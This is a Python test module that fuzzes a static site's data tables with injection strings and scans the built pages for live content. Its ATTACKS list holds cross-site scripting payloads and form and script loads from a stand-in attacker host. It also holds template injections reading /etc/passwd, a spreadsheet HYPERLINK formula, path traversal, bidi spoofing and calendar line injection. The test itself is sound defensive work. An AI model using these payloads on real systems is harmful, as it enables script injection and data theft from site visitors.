"""Feeds hostile text to every text field of a town, builds it, and looks for anything alive.

What the check refuses is taken back, field by field, until the town passes: what is left is text
that anybody may bring in by a pull request.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

MARK = "boesemarke"
HOST = f"{MARK}.example"
ATTACKS = (
    f"<script>alert('{MARK}')</script>",
    f"</script><script src=//{HOST}/x.js></script>",
    f'"><img src=x onerror={MARK}()>',
    f"' onmouseover='{MARK}()' x='",
    f"<svg onload={MARK}()><style>*{{background:url(//{HOST}/)}}</style>",
    f"<iframe srcdoc='<script>{MARK}</script>'></iframe><base href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<form action=//{HOST}/><input name=p></form><link rel=stylesheet href=//{HOST}/>",
    f"javascript:{MARK}()",
    f"[Klick](javascript:{MARK}()) ![x](http://{HOST}/x.png) <http://{HOST}/>",
    f"{{{{ config.__class__ }}}} {{% include '/etc/passwd' %}} {MARK}",
    f"${{{MARK}}} <%= {MARK} %> #{{7*7}}",
    f'=HYPERLINK("http://{HOST}/";"{MARK}")',
    f"../../../../{MARK}",
    f"{MARK}\u202e\u2066txt.exe\u2069",
    f"{MARK}\u0000\u0007\u001b[31m",
    f"{MARK}\r\nBEGIN:VEVENT\r\nX-EVIL:1",
    f"]]> --> */ {MARK} <!-- <![CDATA[",
    f"&lt;script&gt;{MARK}&lt;/script&gt; &#60;b&#62;",
    f"\ufeff{MARK}\u200b\u200d\ufffd\U000e0001",
    f"pk-platzhalter-inhalt {MARK} pk-platzhalter-titel",
    f"[[offen: {MARK}]]",
    f"{MARK} " + "x" * 4000,
    "",
    " ",
    "\u0000",
)
"""One of each kind: markup, templates, Markdown, formulas, paths, control and direction characters,
our own placeholders, huge, empty."""


@dataclass(frozen=True, slots=True)
class Place:
    """A column that holds text: path of its table below ``datapackages`` and its name."""

    table: str
    column: str


def places(town: Path) -> list[Place]:
    """Every column of type text that is no key, no reference and no choice."""
    found = []
    for descriptor in sorted((town / "datapackages").glob("[!_]*/datapackage.json")):
        for table in json.loads(descriptor.read_text(encoding="utf-8"))["resources"]:
            schema = table.get("schema")
            if not schema:
                continue
            keys = {"id"}
            for one in schema.get("foreignKeys", []):
                keys |= {one["fields"]} if isinstance(one["fields"], str) else set(one["fields"])
            for column in schema["fields"]:
                fixed = "enum" in column.get("constraints", {}) or "categories" in column
                text = column.get("type", "string") == "string" and not fixed
                if text and column["name"] not in keys:
                    path = f"{descriptor.parent.name}/{table['path']}"
                    found.append(Place(path, column["name"]))
    return found


@dataclass
class Trial:
    """A town with hostile text in it."""

    town: Path
    values: dict[Place, str]
    before: dict[str, bytes] = field(default_factory=dict)

    def write(self) -> None:
        """Put each value that is still wanted into the first row of its table that has text."""
        for table in {place.table for place in self.values} | set(self.before):
            path = self.town / "datapackages" / table
            raw = self.before.setdefault(table, path.read_bytes())
            rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
            for place, value in self.values.items():
                if place.table == table and rows and place.column in rows[0]:
                    rows[0][place.column] = value
            out = io.StringIO()
            writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
            path.write_bytes(out.getvalue().encode("utf-8", "surrogatepass"))

    def settle(self) -> int:
        """Take back what the check refuses; gives the number of values that were refused."""
        from praeventionskette.inspection import inspect

        refused = 0
        for _ in range(12):
            self.write()
            stops = [p for p in inspect(self.town / "mkdocs.yml").problems if p.stops]
            if not stops:
                return refused
            wrong = {
                place
                for place in self.values
                for stop in stops
                if stop.file.endswith(place.table) and stop.column in ("", place.column)
            }
            for place in wrong or set(self.values):
                del self.values[place]
                refused += 1
        raise AssertionError(f"still refused: {stops[:3]}")


def copy_of(source: Path, target: Path, hooks: Path) -> Path:
    """A copy of a town that builds with the program in ``hooks``.

    Cells that are withheld stay out: beside hostile names they stop a build, which is another test.
    """
    shutil.copytree(source, target)
    config = target / "mkdocs.yml"
    text = config.read_text(encoding="utf-8").replace("../../hooks", hooks.as_posix())
    config.write_text(text, encoding="utf-8")
    values = target / "datapackages" / "monitoring" / "werte.csv"
    lines = values.read_text(encoding="utf-8").splitlines(keepends=True)
    values.write_text("".join(x for x in lines if ",geheim," not in x), encoding="utf-8")
    return target


SCHEMES = {"", "http", "https", "mailto", "tel", "webcal"}
LOADING = re.compile(r"stylesheet|icon|pre|manifest|import")
PLAIN = re.compile(r"[A-Za-z0-9._+-]+")


class _Alive(HTMLParser):
    """Notes everything of a page that runs, loads or leads elsewhere and may come from data."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.script: str | None = None
        self.policies = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        here = dict(attrs)
        self.script = (here.get("type") or "code") if tag == "script" else None
        if tag in ("iframe", "object", "embed", "base", "style", "frame", "applet", "marquee"):
            self.found.append(f"<{tag}>")
        if tag == "meta" and (here.get("http-equiv") or "").lower() == "refresh":
            self.found.append("<meta refresh>")
        self.policies += (here.get("http-equiv") or "").lower() == "content-security-policy"
        for name, value in attrs:
            words = value or ""
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "poster", "data", "srcset"):
                parts = urlsplit(re.sub(r"[\x00-\x20]", "", words))
                rel = here.get("rel") or ""
                loads = name != "href" or (tag == "link" and bool(LOADING.search(rel)))
                if parts.scheme not in SCHEMES and not words.startswith("data:image/svg"):
                    self.found.append(f"<{tag} {name}={words[:60]}>")
                elif loads and parts.netloc:
                    self.found.append(f"<{tag}> lädt {words[:60]}")
                elif parts.netloc == HOST:
                    self.found.append(f"<{tag}> führt zu {words[:60]}")

    def handle_data(self, data: str) -> None:
        if self.script == "code" and data.strip():
            self.found.append(f"Skript in der Seite: {data[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self.script = None


def alive(site: Path) -> Iterator[str]:
    """A sentence for everything in a built site that is more than text, or lies elsewhere."""
    for path in sorted(site.rglob("*")):
        name = path.relative_to(site).as_posix()
        if not all(PLAIN.fullmatch(part) for part in name.split("/")):
            yield f"{name}: ein Name aus den Daten"
        if path.is_symlink() or not path.resolve().is_relative_to(site.resolve()):
            yield f"{name}: liegt außerhalb"
        if path.suffix == ".html":
            reader = _Alive()
            reader.feed(path.read_text(encoding="utf-8"))
            yield from (f"{name}: {what}" for what in reader.found)
            if reader.policies != 1:
                yield f"{name}: {reader.policies} Regeln statt einer"
        elif path.suffix in (".svg", ".xml", ".atom"):
            tree = ElementTree.fromstring(path.read_bytes())  # well-formed, or it raises
            for element in tree.iter():
                tag = str(element.tag).rpartition("}")[2].lower()
                if tag in ("script", "foreignobject", "iframe"):
                    yield f"{name}: <{tag}>"
                yield from (f"{name}: {a}" for a in element.attrib if a.lower().startswith("on"))
        elif path.suffix in (".json", ".jsonld", ".geojson", ".webmanifest"):
            json.loads(path.read_text(encoding="utf-8"))
        elif path.suffix == ".ics" and b"\nX-EVIL" in path.read_bytes():
            yield f"{name}: eine Zeile aus den Daten"


def attempt(
    town: Path, values: Sequence[str], build: Callable[[Path], tuple[int, str]]
) -> tuple[int, int, list[str]]:
    """(values tried, of them refused, sentences) of one town with one value for each place.

    build: ``mkdocs.yml`` → (exit status, output); the site lies in ``town/site``.
    """
    where = places(town)
    trial = Trial(town, dict(zip(where, values, strict=True)))
    refused = trial.settle()
    status, said = build(town / "mkdocs.yml")
    found = list(alive(town / "site")) if status == 0 else [f"nicht gebaut: {said[-3000:]}"]
    for table, raw in trial.before.items():
        (town / "datapackages" / table).write_bytes(raw)
    return len(where), refused, found
